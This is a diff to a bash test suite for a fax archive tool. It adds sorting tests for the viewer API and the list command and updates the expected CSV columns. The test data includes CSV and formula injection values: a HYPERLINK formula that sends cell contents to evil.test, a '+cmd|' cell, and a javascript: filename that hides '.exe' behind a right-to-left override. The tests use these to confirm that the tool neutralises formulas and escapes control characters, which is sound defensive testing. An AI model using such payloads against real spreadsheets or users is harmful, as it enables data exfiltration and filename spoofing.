@@ -705,6 +705,32 @@ test_the_viewer_marks_faxes_read_and_unread() {
     wait "$viewer" 2>/dev/null
 }
 
+# The viewer lists in the order the address asks for, and refuses an order it does not know.
+test_the_viewer_sorts_as_asked() {
+    install_vexa
+    sql "INSERT INTO recv (Date, Number, Subject, New) VALUES ('2024-01-02 00:00:00', '222', 'b', 1),
+         ('2024-01-01 00:00:00', '333', 'a', 0), ('2024-01-03 00:00:00', '111', 'c', 0)"
+    "$VEXA" view --no-open >"$WORLD/address" 2>/dev/null &
+    local viewer=$! _ address base token query answer
+    for _ in $(seq 100); do [[ -s $WORLD/address ]] && break; sleep 0.1; done
+    address=$(head -1 "$WORLD/address") base=${address%%/\?*} token=${address##*token=}
+    while IFS='|' read -r query answer; do
+        curl -s -m 5 -o "$WORLD/body" -w '%{http_code} ' -H "Cookie: vexa_token_${base##*:}=$token" \
+            "$base/api/recv?$query" >"$WORLD/code"
+        expect_eq "$query" "$answer" "$(cat "$WORLD/code")$(grep -o '"id":[0-9]*' "$WORLD/body" | cut -d: -f2 | paste -sd' ')$(grep -o 'sort is[^"]*\|dir is[^"]*' "$WORLD/body")"
+    done <<'EOF'
+|200 3 1 2
+sort=number&dir=asc|200 3 1 2
+sort=number&dir=desc|200 2 1 3
+sort=subject&dir=asc&limit=2&offset=1|200 1 3
+sort=state|200 1 3 2
+sort=size|400 sort is date, number, subject, description, file, state or who
+sort=date&dir=up|400 dir is asc or desc
+EOF
+    kill "$viewer"
+    wait "$viewer" 2>/dev/null
+}
+
 test_open_starts_the_viewer_and_reuses_it() {
     install_vexa
     rm -r "$MAILBOX"
@@ -896,43 +922,61 @@ test_list_prints_the_archive_as_csv_json_and_table() {
     rm -rf "$MAILBOX"  # listing needs no mailbox
     run list recv --format csv
     expect_eq "csv status" 0 "$STATUS"
-    expect_eq "csv header" "Id,Date,Number,Subject,Description,FileName,New" "$(head -n 1 <<<"$OUT" | tr -d '\r')"
+    expect_eq "csv header" "Id,Date,Number,Subject,Description,FileName,FileId,Who,New" "$(head -n 1 <<<"$OUT" | tr -d '\r')"
     expect_contains "csv row" "1,2023-03-14 09:15:42,NY4711-23," "$OUT"
+    expect_contains "csv row's stored file" ",R0000001.tif,," "$OUT"
     # A stranger's subject with a quote, a comma, a newline and an escape sequence.
-    sql "INSERT INTO recv (Date, Number, Subject, FileName, New) VALUES ('2024-01-02 03:04:05', '555', 'say \"hi\", x'
-         || char(10) || 'line2' || char(27) || '[31m', 'f.pdf', 1)"
+    sql "INSERT INTO recv (Date, Number, Subject, FileName, FileId, New) VALUES ('2024-01-02 03:04:05', '555', 'say \"hi\", x'
+         || char(10) || 'line2' || char(27) || '[31m', 'f.pdf', '=R\"1', 1)"
     sql "INSERT INTO send (Date, Number, Subject, Confirm) VALUES ('2024-01-01 00:00:00', '1', 'ok', 'Successful'), ('2024-01-03 00:00:00', '2', 'open', NULL)"
     run list recv --format csv
     expect_eq "newest first, quoted" "2,2024-01-02 03:04:05,555,\"say \"\"hi\"\", x
-line2"$'\e'"[31m\",,f.pdf,1" "$(sed -n '2,3p' <<<"$OUT" | tr -d '\r')"
+line2"$'\e'"[31m\",,f.pdf,\"'=R\"\"1\",,1" "$(sed -n '2,3p' <<<"$OUT" | tr -d '\r')"
     run list recv --format json --search 'SAY X'
     expect_eq "json" '[
-  {"Id": 2, "Date": "2024-01-02 03:04:05", "Number": "555", "Subject": "say \"hi\", x\nline2\u001b[31m", "Description": "", "FileName": "f.pdf", "New": true}
+  {"Id": 2, "Date": "2024-01-02 03:04:05", "Number": "555", "Subject": "say \"hi\", x\nline2\u001b[31m", "Description": "", "FileName": "f.pdf", "FileId": "=R\"1", "Who": "", "New": true}
 ]' "$OUT"
     # Cells a spreadsheet would run as formulas, and a name that turns its own direction around.
     sql "INSERT INTO recv (Date, Number, Subject, Description, FileName, New) VALUES
          ('2023-01-01 00:00:00', '+49 30 1234', '=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")', '-2+3', '@SUM(1+1)', 0),
          ('2023-01-01 00:00:01', '-5', '+1+cmd|x', char(9) || '=1', 'javascript:alert(5)' || char(8238) || 'fdp.exe', 0)"
     run list recv --format csv --until 2023-01-01
-    expect_eq "formulas neutralised, numbers kept" "4,2023-01-01 00:00:01,-5,'+1+cmd|x,'"$'\t'"=1,javascript:alert(5)"$'\u202e'"fdp.exe,0
-3,2023-01-01 00:00:00,+49 30 1234,\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"click\"\")\",'-2+3,'@SUM(1+1),0" "$(sed -n '2,3p' <<<"$OUT" | tr -d '\r')"
+    expect_eq "formulas neutralised, numbers kept" "4,2023-01-01 00:00:01,-5,'+1+cmd|x,'"$'\t'"=1,javascript:alert(5)"$'\u202e'"fdp.exe,,,0
+3,2023-01-01 00:00:00,+49 30 1234,\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"click\"\")\",'-2+3,'@SUM(1+1),,,0" "$(sed -n '2,3p' <<<"$OUT" | tr -d '\r')"
     run list recv --until 2023-01-01
     expect_contains "the table shows the direction mark" 'javascript:alert(5)\u202efdp.exe' "$OUT"
     run list recv
     expect_contains "table escapes" 'say "hi", x\nline2\x1b[31m' "$OUT"
     [[ "$OUT" != *$'\e'* ]] || fail "the table passed an escape character"
     run list send --state Unconfirmed --format csv
-    expect_eq "unconfirmed" "2,2024-01-03 00:00:00,2,open,,,Unconfirmed" "$(sed -n 2p <<<"$OUT" | tr -d '\r')"
+    expect_eq "unconfirmed" "2,2024-01-03 00:00:00,2,open,,,,,Unconfirmed" "$(sed -n 2p <<<"$OUT" | tr -d '\r')"
     "$VEXA" list recv >/dev/full 2>"$WORLD/stderr"
     expect_eq "a list that cannot be written" 74 "$?"
     run list send --state Successful --since 2024-01-01 --until 2024-01-01 --format csv
-    expect_eq "successful that day" "1,2024-01-01 00:00:00,1,ok,,,Successful" "$(sed -n '2,$p' <<<"$OUT" | tr -d '\r')"
+    expect_eq "successful that day" "1,2024-01-01 00:00:00,1,ok,,,,,Successful" "$(sed -n '2,$p' <<<"$OUT" | tr -d '\r')"
+    # Each order as the Ids of its rows; ties go by Id in the same direction.
+    local order
+    while IFS='|' read -r args order; do
+        # shellcheck disable=SC2086
+        run list $args --format csv
+        expect_eq "list $args" "$order" "$(sed -n '2,$p' <<<"$OUT" | grep -o '^[0-9]*,20[0-9-]* ' | cut -d, -f1 | paste -sd' ')"
+    done <<'EOF'
+recv|2 1 4 3
+recv --ascending|3 4 1 2
+recv --sort number --ascending|3 4 2 1
+recv --sort number --descending|1 2 4 3
+recv --sort state|2 1 4 3
+recv --sort who --ascending|1 2 3 4
+recv --sort file --ascending --until 2023-01-01|3 4
+send --sort state --ascending|2 1
+send --sort subject --ascending|1 2
+EOF
 }
 
 test_list_refuses_bad_options() {
     install_vexa
     local args
-    for args in "send --state Done" "recv --since 2024-13-01" "recv --until yesterday" "recv --format xml" "faxes" ""; do
+    for args in "send --state Done" "recv --sort size" "recv --ascending --descending" "recv --since 2024-13-01" "recv --until yesterday" "recv --format xml" "faxes" ""; do
         # shellcheck disable=SC2086
         run list $args
         expect_eq "list $args" 64 "$STATUS"
